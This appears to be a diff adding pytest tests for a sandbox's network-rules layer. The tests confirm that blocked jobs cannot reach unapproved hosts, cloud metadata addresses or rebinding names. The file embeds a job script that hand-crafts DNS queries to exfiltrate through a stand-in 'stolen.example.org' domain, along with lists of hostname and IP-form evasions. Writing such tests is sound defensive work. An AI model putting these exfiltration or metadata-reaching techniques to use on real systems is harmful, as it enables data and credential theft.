@@ -1,0 +1,186 @@
+"""Attacks with names and addresses on a run with rules, each with a twin without the layer `network`.
+
+The machine is the test's own.  Every address belongs to it, and a server listens at all of them, so that without
+the layer each attack reaches somebody.
+"""
+
+from __future__ import annotations
+
+import contextlib
+import socket
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+from outside_world import World
+from relay_world import A, echo, reply, served
+
+SERVER = "203.0.113.5"
+RESOLVER = "127.0.0.53"
+WITHOUT = ("network",)
+
+
+@pytest.fixture
+def world(tmp_path: Path) -> Iterator[World]:
+    try:
+        made = World(tmp_path, RESOLVER)
+    except OSError as error:
+        pytest.skip(f"no namespaces here: {error}")
+    yield made
+    made.close()
+
+
+@contextlib.contextmanager
+def everywhere(world: World, *ports: int) -> Iterator[None]:
+    """Serve an echo at each address."""
+    with contextlib.ExitStack() as stack:
+        for port in ports:
+            stack.enter_context(served(world.space.listener("::", port), echo))
+        yield
+
+
+EVIL = [
+    "evil.example.org",
+    "api.example.org.evil.example.org",
+    "_api.example.org",
+    "api_.example.org",
+    "api-.example.org",
+    "xn--api-cva.example.org",
+    "a.api.example.org",
+    "example.org",
+    "API.EVIL.example.org.",
+    "\uff45vil.example.org",
+    "evil\u3002example.org",
+]
+ODD = [
+    "2130706433",
+    "0x7f.1",
+    "127.1",
+    "0177.0.0.1",
+    "0xcb.0x0.0x71.0x5",
+    "203.113.5",
+    "::ffff:203.0.113.5",
+    "::ffff:7f00:1",
+    "64:ff9b::203.0.113.5",
+    "64:ff9b::7f00:1",
+    "2002:7f00:1::1",
+    "fe80::1%1",
+    "fd00:ec2::254",
+]
+
+
+@pytest.mark.parametrize("mode", ["exec", "zygote"])
+def test_odd_forms_of_names_and_addresses_reach_nobody(world: World, mode: str):
+    """Case, dots, marks, digits, other scripts and other forms of addresses; the permitted name still works."""
+    names = ["api.example.org", *map(str.lower, EVIL)]
+    names += ["evil.example.org", "api.evil.example.org"]
+    world.names.records = {name.rstrip("."): [SERVER] for name in names}
+    good = [("api.example.org", 443), ("API.Example.ORG.", 443), ("\uff41pi.example.org", 443)]
+    places = [(host, 443) for host in (*EVIL, *ODD)]
+    with everywhere(world, 443):
+        walled = world.run(mode, ["api.example.org:443"], [*good, *places])
+        open_ = world.run(mode, ["api.example.org:443"], [*good, *places], without=WITHOUT)
+
+    assert walled["data"][:3] == ["ping"] * 3
+    assert "ping" not in walled["data"][3:], list(zip(places, walled["data"][3:], strict=True))
+    assert {host for host, _, outcome in walled["connections"] if outcome == "open"} == {
+        "api.example.org"
+    }
+    reached = dict(zip(places, open_["data"][3:], strict=True))
+    assert [place for place, found in reached.items() if found != "ping"] == []
+
+
+QUESTIONS = """
+import socket
+
+def ask(server, name, kind):
+    question = bytes.fromhex("0007010000010000000000000000"[:24])
+    for label in name.split("."):
+        question += bytes([len(label)]) + label.encode()
+    question += b"\\0" + kind.to_bytes(2, "big") + b"\\0\\1"
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as end:
+        end.settimeout(3)
+        end.sendto(question, (server, 53))
+        end.recv(512)
+
+def over_tcp(server, name):
+    with socket.create_connection((server, 53), timeout=3) as end:
+        label = b"\\0\\7\\1\\0\\0\\1" + bytes(6)
+        for part in name.split("."):
+            label += bytes([len(part)]) + part.encode()
+        label += b"\\0\\0\\1\\0\\1"
+        end.sendall(len(label).to_bytes(2, "big") + label)
+        end.recv(512)
+
+def main(state):
+    for attack in (
+        lambda: socket.getaddrinfo("by-libc.stolen.example.org", 443),
+        lambda: socket.gethostbyname("old-call.stolen.example.org"),
+        lambda: socket.gethostbyaddr("203.0.113.99"),
+        lambda: ask("127.0.0.53", "text.stolen.example.org", 16),
+        lambda: ask("127.0.0.53", "a.stolen.example.org", 1),
+        lambda: ask("127.0.0.53", "null.stolen.example.org", 10),
+        lambda: ask("203.0.113.53", "far.stolen.example.org", 1),
+        lambda: over_tcp("127.0.0.53", "stream.stolen.example.org"),
+    ):
+        try:
+            attack()
+        except OSError:
+            pass
+    return {"data": []}
+"""
+
+
+@pytest.mark.parametrize("mode", ["exec", "zygote"])
+def test_no_question_carries_data_out(world: World, mode: str):
+    """Neither by the C library nor by a message of the job's own; port 53 is permitted at another host only."""
+    rules = ["api.example.org:53"]
+    world.run(mode, rules, [], job=QUESTIONS)
+    assert world.names.asked == []
+
+    world.run(mode, rules, [], job=QUESTIONS, without=WITHOUT)
+    asked = {name.partition(".")[0] for name in world.names.asked}
+    assert asked >= {"by-libc", "old-call", "text", "a", "null", "stream"}
+
+
+METADATA = ["169.254.169.254", "fd00:ec2::254", "fd20:ce::254", "100.100.100.200", "168.63.129.16"]
+
+
+@pytest.mark.parametrize("address", METADATA)
+def test_metadata_of_a_cloud_is_not_reached(world: World, address: str):
+    """By its address, by a name, and by each rule that permits every other host."""
+    world.names.records = {"meta.example.org": [address]}
+    rules = ["*:80", "meta.example.org:80", "0.0.0.0/0:80", "[::/0]:80"]
+    places = [(address, 80), ("meta.example.org", 80)]
+    with everywhere(world, 80):
+        assert "ping" not in world.run("zygote", rules, places)["data"]
+        assert world.run("zygote", rules, places, without=WITHOUT)["data"] == ["ping"] * 2
+
+
+def test_a_name_that_changes_its_address_does_not_lead_to_the_machine(world: World):
+    """The name server gives the address of this machine from the second question on."""
+    asked = []
+
+    def changing(message: bytes, over_tcp: bool) -> bytes:
+        if int.from_bytes(message[-4:-2], "big") != A:
+            return reply(message, [])
+        asked.append(message)
+        return reply(message, [(A, socket.inet_aton(SERVER if len(asked) == 1 else "127.0.0.1"))])
+
+    def near(end: socket.socket) -> None:
+        end.recv(4)
+        end.sendall(b"near")
+
+    places = [("rebinds.example.org", 443)] * 3
+    world.names.records = {"rebinds.example.org": changing}
+    with (
+        served(world.space.listener(SERVER, 443), echo),
+        served(world.space.listener("127.0.0.1", 443), near),
+    ):
+        walled = world.run("zygote", ["rebinds.example.org:443"], places)
+        assert walled["data"] == ["ping", "ConnectionResetError", "ConnectionResetError"]
+        assert len(asked) >= 3  # the relay has looked, and has seen the new address
+
+        asked.clear()
+        open_ = world.run("zygote", ["rebinds.example.org:443"], places, without=WITHOUT)
+    assert open_["data"] == ["ping", "near", "near"]
